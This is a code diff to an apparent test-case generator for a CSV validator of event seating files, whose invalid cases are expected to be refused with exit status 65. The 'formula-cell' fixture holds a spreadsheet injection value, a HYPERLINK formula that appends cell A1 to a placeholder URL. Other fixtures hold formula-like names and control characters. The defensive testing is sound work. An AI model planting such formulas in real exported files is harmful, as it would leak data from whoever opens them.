@@ -3,8 +3,6 @@
 from .small import EVENT, HALL_HEADER, delegates, event, hall, hall_event, leaders, people, rostrum_event
 from .tables import EVENT_HEADER, in_folder, page, table
 
-NOT_REFUSED = {"formula-cell"}
-
 
 def files():
     """All events of the family."""
@@ -14,8 +12,8 @@ def files():
 
 def readme(name, idea):
     """The page of a case."""
-    verdict = "It may be read as text." if name in NOT_REFUSED else "It must be refused, with exit status 65."
-    return page(name.replace("-", " ").capitalize(), f"All invented. {idea}", verdict)
+    title = name.replace("-", " ").capitalize()
+    return page(title, f"All invented. {idea}", "It must be refused, with exit status 65.")
 
 
 def cases():
@@ -36,9 +34,6 @@ def cases():
         "duplicate-seats": (
             "hall.csv:6 has seats 5 and 6 of A, row 1, once more.",
             sound | {"hall.csv": hall() + b"A,1,5,8\n"}),
-        "unknown-group": (
-            "groups.csv:3:1 names a group nobody is in, close to one that is there (South).",
-            sound | {"groups.csv": table(["group", "order"], [["North", 1], ["Soutth", 2]])}),
         "unknown-section": (
             "groups.csv:3:3 binds a group to a section the hall does not have.",
             sound | {"groups.csv": table(["group", "order", "section"], [["North", 1, "A"], ["South", 2, "Z"]])}),
@@ -55,9 +50,11 @@ def cases():
             "A quote opens at people.csv:3:2 and never closes.",
             sound | {"people.csv": b'id,name,group\nP01,Ada,North\nP02,"Ben,North\nP03,Cleo,South\n'}),
         "formula-cell": (
-            "people.csv:3:2 is a formula that was saved as text. Whoever prints it must not let a spreadsheet "
-            "run it.",
-            hall_event(delegates(ben={"name": '=HYPERLINK("http://example.invalid/?"&A1,"Ben")'}))),
+            "people.csv:3:2 is a formula that was saved as text; a spreadsheet would take people.csv:5:2 and "
+            "people.csv:7:2 for formulas too.",
+            hall_event(delegates(
+                ben={"name": '=HYPERLINK("http://example.invalid/?"&A1,"Ben")'}, dan={"name": "-1+2"},
+                finn={"name": "@here"}))),
         "control-characters": (
             "people.csv:3:2 holds an escape sequence, people.csv:5:2 a null, people.csv:7:2 a bell.",
             hall_event(delegates(ben={"name": "Ben\x1b[31m"}, dan={"name": "Da\x00n"}, finn={"name": "Finn\x07"}))),
